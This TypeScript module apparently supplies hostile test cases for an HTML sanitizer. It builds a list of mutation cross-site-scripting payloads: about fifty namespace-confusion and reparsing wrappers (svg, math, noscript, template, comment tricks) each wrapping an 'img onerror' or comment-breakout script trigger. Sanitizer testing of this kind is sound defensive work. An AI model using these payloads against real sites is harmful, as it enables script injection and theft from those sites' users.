import type { Vector } from "./HostileCase.ts";

const image: Vector = (run) => `<img src=nowhere onerror=${run}>`;

/** Elements whose content is text in one namespace and markup in another, or that move when they are parsed again. */
const SHELLS: ReadonlyArray<(inner: string) => string> = [
  (i) => `<svg><style>${i}</style></svg>`,
  (i) => `<svg></p><style><g title="</style>${i}">`,
  (i) => `<svg><title>${i}</title></svg>`,
  (i) => `<svg><desc><p>${i}</p></desc></svg>`,
  (i) => `<svg><foreignObject><div>${i}</div></foreignObject></svg>`,
  (i) => `<svg><!--<p>--></p>${i}`,
  (i) => `<svg><![CDATA[</svg>${i}]]>`,
  (i) => `<svg><noscript><p title="</noscript>${i}">`,
  (i) => `<math><mtext><table><mglyph><style><!--</style><p title="--&gt;${i.replaceAll("<", "&lt;")}">`,
  (i) => `<math><mi><mglyph><svg><mtext><style><path id="</style>${i}">`,
  (i) => `<math><annotation-xml encoding="text/html"><style>${i}</style></annotation-xml></math>`,
  (i) => `<math><annotation-xml encoding=application/xhtml+xml><p>${i}`,
  (i) => `<form><math><mtext></form><form><mglyph><style></math>${i}`,
  (i) => `<noscript><p title="</noscript>${i}"></noscript>`,
  (i) => `<noembed><p title="</noembed>${i}"></noembed>`,
  (i) => `<noframes><b id="</noframes>${i}"></noframes>`,
  (i) => `<xmp><i title="</xmp>${i}"></xmp>`,
  (i) => `<plaintext>${i}`,
  (i) => `<textarea><p title="</textarea>${i}"></textarea>`,
  (i) => `<title><p title="</title>${i}"></title>`,
  (i) => `<iframe><p title="</iframe>${i}"></iframe>`,
  (i) => `<style><p title="</style>${i}"></style>`,
  (i) => `<script><!--<script></script>${i}--></script>`,
  (i) => `<!--><p>${i}<p>-->`,
  (i) => `<!-- --!>${i}<!-- -->`,
  (i) => `<!--${"-".repeat(3)}>${i}`,
  (i) => `<!doctype "${i}"><p>${i}`,
  (i) => `<?xml version="1.0"?>${i}<?x >${i}?>`,
  (i) => `</ ${i}>${i}`,
  (i) => `<template>${i}</template>`,
  (i) => `<template><template shadowrootmode=open>${i}</template></template>`,
  (i) => `<table><caption><svg><style></table>${i}</style></svg></caption></table>`,
  (i) => `<table><tr>${i}<td><table>${i}</table></table>`,
  (i) => `<select><option><script></option></select>${i}</script>`,
  (i) => `<select><keygen>${i}</select>`,
  (i) => `<a><a href="">${i}</a><p><a>${i}`,
  (i) => `<p><b><p><i></b>${i}</i></p>`,
  (i) => `<ruby><rt><rtc>${i}<rb>`,
  (i) => `<frameset><frame src="javascript:0">${i}</frameset>`,
  (i) => `<option><style></option></select><b>${i}</style></option>`,
  (i) => `<listing>\n\n${i}</listing>`,
  (i) => `<p title="\`${i}\`">\`</p>`,
  (i) => `<p title='${i}' title="${i}">${i}`,
  (i) => `<x ${i}>`,
  (i) => `<x/${i.slice(1)}`,
  (i) => `<x y="${i}`,
  (i) => `<x\u0000y>${i}`,
  (i) => `<a title="\n\n${i}\n\n">t</a>`,
];

const comment: Vector = (run) => `--></style></title><img src=nowhere onerror="${run}">`;

export const MUTATIONS: ReadonlyArray<Vector> = SHELLS.flatMap((shell): ReadonlyArray<Vector> => [
  (run) => shell(image(run)),
  (run) => shell(comment(run)),
]);
